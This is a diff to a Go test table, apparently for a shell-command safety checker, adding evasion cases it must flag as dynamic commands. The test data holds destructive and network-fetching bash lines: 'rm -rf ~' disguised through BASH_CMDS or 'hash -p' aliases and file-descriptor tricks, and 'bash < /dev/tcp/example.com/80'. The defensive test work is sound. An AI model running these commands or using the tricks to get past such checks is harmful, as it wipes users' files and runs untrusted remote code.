@@ -403,6 +403,12 @@ func TestProblems(t *testing.T) {
 		{`exec 3<<< 'rm -rf ~'; . /proc/self/fd/3`, "dynamic_eval"},
 		{`bash /dev/fd/3 3<<< 'rm -rf ~'`, "dynamic_eval"},
 		{`bash /proc/1234/fd/0`, "dynamic_eval"},
+		{`BASH_CMDS[x]=/bin/rm; x -rf ~`, "dynamic_command"},
+		{`BASH_CMDS=([x]=/bin/rm); x -rf ~`, "dynamic_command"},
+		{`declare BASH_CMDS[x]=/bin/rm; x -rf ~`, "dynamic_command"},
+		{`typeset -A BASH_CMDS=([x]=/bin/rm); x -rf ~`, "dynamic_command"},
+		{`hash -p "$p" x; x -rf ~`, "dynamic_command"},
+		{`hash -p /bin/rm "$n"`, "dynamic_command"},
 		{`bash < /dev/tcp/example.com/80`, "dynamic_eval"},
 		{`exec 3</dev/tcp/example.com/80; bash <&3`, "dynamic_eval"},
 	}
